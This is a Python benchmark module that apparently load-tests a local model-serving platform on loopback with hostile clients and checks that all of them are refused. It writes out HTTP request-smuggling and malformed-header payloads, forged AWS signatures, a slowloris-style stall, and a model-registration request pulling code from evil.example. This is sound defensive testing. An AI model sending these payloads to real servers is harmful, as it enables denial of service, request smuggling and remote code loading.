"""Clients that mean harm, beside the good ones: unsigned floods, framing tricks, those that stall.

At rates that are stated and that one machine can send beside its own load; each is on loopback,
and all end with the run. `Seen` says what they were answered.
"""

from __future__ import annotations

import contextlib
import random
import re
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from benchmarks.lab import BUCKET, ENDPOINT, PREFIX, Lab
from benchmarks.report import Result
from mmectl.local import record

RATE = 50.0  # unsigned requests a second, and a fifth as many broken ones
STALLED = 20  # connections that send or read nothing
PATIENCE = 5.0
MIB = 1 << 20

DIGITS = "9" * 5000
SCOPE = "AKIA/20260101/us-east-1/s3/aws4_request"
PRESIGNED = f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={SCOPE}"
SIGNED = (
    "Authorization: AWS4-HMAC-SHA256 Credential=AKIA/20260101/us-east-1/sagemaker/aws4_request, "
    "SignedHeaders=host;x-amz-date, Signature=" + "0" * 64 + "\r\nX-Amz-Date: 20260101T000000Z\r\n"
)
UNSIGNED = (
    ("GET", f"/{BUCKET}/{PREFIX}model_00000.tar.gz", "", 0),
    ("GET", f"/k?{PRESIGNED}&X-Amz-SignedHeaders=host&X-Amz-Expires={DIGITS}", "", 0),
    ("PUT", f"/{BUCKET}/{PREFIX}model_00000.tar.gz", "", 10_000),
    ("POST", f"/endpoints/{ENDPOINT}/invocations", SIGNED, 100_000),
    ("POST", "/models?url=http://evil.example/x.mar&initial_workers=1", "", 0),
    ("GET", "/-/status", "Origin: http://evil.example\r\n", 0),
)
BROKEN = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100),
    b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n",
    b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n\r\n",
    b"PUT / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n",
    b"\r\n\r\n\0\0\0 / \x7f",
)


@dataclass(slots=True)
class Seen:
    """What they were answered: how often which status; 0 is a connection that was closed."""

    answers: Counter[int] = field(default_factory=Counter)
    stalled: int = 0

    @property
    def let_in(self) -> list[int]:
        """Statuses that are no refusal."""
        return sorted(status for status in self.answers if status and not 400 <= status < 500)


def unsigned(port: int, choose: random.Random) -> bytes:
    """A request without a signature, or with a wrong one."""
    method, path, lines, length = choose.choice(UNSIGNED)
    head = f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{lines}"
    return f"{head}Content-Length: {length}\r\nConnection: close\r\n\r\n".encode() + bytes(length)


def asked(port: int, request: bytes) -> int:
    """Send bytes as they are; the status of the answer, 0 where the connection just ended."""
    answer = b""
    with contextlib.suppress(OSError), _connected(port) as line:
        with contextlib.suppress(OSError):
            line.sendall(request)
        answer = line.recv(4096)
    found = re.match(rb"HTTP/1\.[01] (\d{3})", answer)
    return int(found[1]) if found else 0


def _connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)


def flood(port: Callable[[], int], seen: Seen, stop: threading.Event, seed: int) -> None:
    """Unsigned requests at RATE, and one in five broken."""
    choose = random.Random(seed)
    due = time.monotonic()
    while not stop.is_set():
        where = port()
        broken = choose.random() < 1 / 6
        request = choose.choice(BROKEN) if broken else unsigned(where, choose)
        seen.answers[asked(where, request)] += 1
        due = max(due + 1 / RATE, time.monotonic() - 1)
        stop.wait(max(due - time.monotonic(), 0))


def stall(port: Callable[[], int], made: Lab, seen: Seen, stop: threading.Event) -> None:
    """Connections that send a head by drops, and signed ones whose answers nobody reads."""
    url = made.client("s3").generate_presigned_url(
        "get_object", Params={"Bucket": BUCKET, "Key": f"{PREFIX}{made.targets[0]}"}, ExpiresIn=3600
    )
    path = url.split("/", 3)[3]
    held: list[socket.socket] = []
    while not stop.wait(0.5):
        with contextlib.suppress(OSError):
            line = _connected(port())
            reads = len(held) % 2
            host = f"127.0.0.1:{line.getpeername()[1]}"
            line.sendall(f"GET /{path} HTTP/1.1\r\nHost: {host}\r\n".encode())
            line.sendall(b"\r\n" if reads else b"X-Slow")
            held.append(line)
            seen.stalled += 1
        if len(held) > STALLED:
            held.pop(0).close()
    for line in held:
        line.close()


@contextlib.contextmanager
def beside(made: Lab, seed: int, seen: Seen) -> Iterator[None]:
    """Let them come while the body runs; what they see is added to `seen`."""
    stop = threading.Event()

    def port() -> int:
        known = record.read(made.state)
        return known.port if known else 0

    threads = [
        threading.Thread(target=flood, args=(port, seen, stop, seed)),
        threading.Thread(target=stall, args=(port, made, seen, stop)),
    ]
    for thread in threads:
        thread.start()
    try:
        yield
    finally:
        stop.set()
        for thread in threads:
            thread.join()


def judged(seen: Seen) -> Iterator[Result]:
    """The figures."""
    count = sum(seen.answers.values())
    told = ", ".join(f"{number} x {status}" for status, number in sorted(seen.answers.items()))
    yield Result("hostile requests, stalled", f"{count}, {seen.stalled}", "", None)
    yield Result("hostile requests let in", f"{seen.let_in} ({told})", "[]", not seen.let_in)


def log_bytes(made: Lab) -> int:
    """What the platform's own log takes, the older one included."""
    logs = (made.state / "local").glob("platform.log*")
    return sum(path.stat().st_size for path in logs if path.is_file())


def disk_bytes(made: Lab) -> int:
    """What all that the platform keeps takes, its logs included."""
    found = 0
    for path in made.state.rglob("*"):
        with contextlib.suppress(OSError):
            found += path.lstat().st_blocks * 512
    return found


def memory(made: Lab) -> int:
    """Bytes that the platform's server holds."""
    known = record.read(made.state)
    if known is None or known.server is None:
        return 0
    with contextlib.suppress(OSError, StopIteration):
        lines = Path(f"/proc/{known.server.pid}/status").read_text().splitlines()
        return int(next(line for line in lines if line.startswith("VmRSS:")).split()[1]) * 1024
    return 0
